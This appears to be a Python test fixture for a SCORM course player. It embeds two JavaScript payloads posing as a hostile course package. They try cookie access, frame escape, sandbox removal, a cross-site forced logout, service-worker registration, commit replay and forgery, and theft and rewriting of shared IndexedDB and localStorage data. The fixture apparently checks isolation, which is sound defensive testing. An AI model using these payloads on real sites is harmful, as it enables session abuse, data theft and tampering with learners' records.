"""What a hostile page of a package tries, and what it does with the storage that packages share.

Each try notes in `tries` what it came to; SITE is the site's origin.
"""

HOSTILE = """<script>
const tries = window.tries = {};
const attempt = async (name, act) => {
  try { tries[name] = String(await act()); } catch (error) { tries[name] = "refused: " + error.name; }
};
const here = location.pathname.split("/files/")[0];
const send = (path, told) => fetch(path, { method: "POST", body: JSON.stringify(told) }).then(async (a) => a.status + " " + JSON.stringify(await a.json()));
window.attack = async () => {
  await attempt("cookie", () => document.cookie || "none");
  await attempt("site document", () => top.document.title);
  await attempt("site storage", () => top.localStorage.length);
  await attempt("site read", () => fetch("SITE/training/", { credentials: "include" }).then((a) => a.status));
  await attempt("site posted", () => fetch("SITE/accounts/logout/", { method: "POST", mode: "no-cors", credentials: "include" }).then(() => "sent"));
  await attempt("navigated", () => { top.location.href = "SITE/about/"; return "asked"; });
  await attempt("unframed", () => { parent.document.querySelector("iframe").removeAttribute("sandbox"); top.location.href = "SITE/about/"; return "asked"; });
  await attempt("form", () => {
    const form = document.createElement("form");
    form.method = "post"; form.action = "SITE/accounts/logout/"; form.target = "_top";
    document.body.append(form); form.submit(); return "asked";
  });
  await attempt("worker", () => navigator.serviceWorker.register(here + "/files/p1.html").then(() => "registered"));
  await attempt("read-only", () => scorm.set("cmi.core.student_name", "Somebody Else") + " " + scorm.error());
  await attempt("swallowed whole", () => scorm.set("cmi", "x") + " " + scorm.set("settings.lmsCommitUrl", "/x") + " " + scorm.error());
  const opened = await fetch(here + "/open", { method: "POST", body: "{}" }).then((a) => a.json());
  const commit = { attempt: opened.attempt, sco: opened.item, seq: opened.seq + 1, changes: [["cmi.core.lesson_location", "first"]] };
  const to = here + "/commit/" + opened.opens;
  await attempt("own commit", () => send(to, commit));
  await attempt("replayed", () => send(to, { ...commit, changes: [["cmi.core.lesson_location", "again"]] }));
  await attempt("committed read-only", () => send(to, { ...commit, seq: commit.seq + 1, changes: [["cmi.core.credit", "no-credit"]] }));
  const [, , token] = here.split("/");
  await attempt("other token", () => fetch("/play/x" + token + "/open", { method: "POST", body: "{}" }).then((a) => a.status));
  await attempt("site at this host", () => fetch("/training/").then((a) => a.status));
  return tries;
};
</script>"""  # noqa: E501 - a page of somebody else

STEAL = """async () => {
  const asked = (request) => new Promise((done, failed) => { request.onsuccess = () => done(request.result); request.onerror = failed; });
  const base = await asked(indexedDB.open("common-ground-play"));
  const store = () => base.transaction("commits", "readwrite").objectStore("commits");
  const rows = await asked(store().getAll());
  const text = JSON.stringify(rows, (name, held) => (held instanceof ArrayBuffer ? new TextDecoder("latin1").decode(held) : held));
  for (const row of rows) {
    const lie = { attempt: 1, sco: "i1", seq: row.body?.seq ?? 1, changes: [["cmi.core.lesson_location", "forged"]], session_time: "PT1S", terminate: false, nav: "" };
    const held = new TextEncoder().encode(JSON.stringify({ opens: 1, body: lie })).buffer;
    await asked(store().put({ ...row, key: `${row.key}0`, body: lie, held }));
  }
  localStorage.setItem("planted", "by another");
  return { rows: rows.length, text, left: JSON.stringify({ ...localStorage }), databases: (await indexedDB.databases()).map((found) => found.name) };
}"""  # noqa: E501 - a page of somebody else
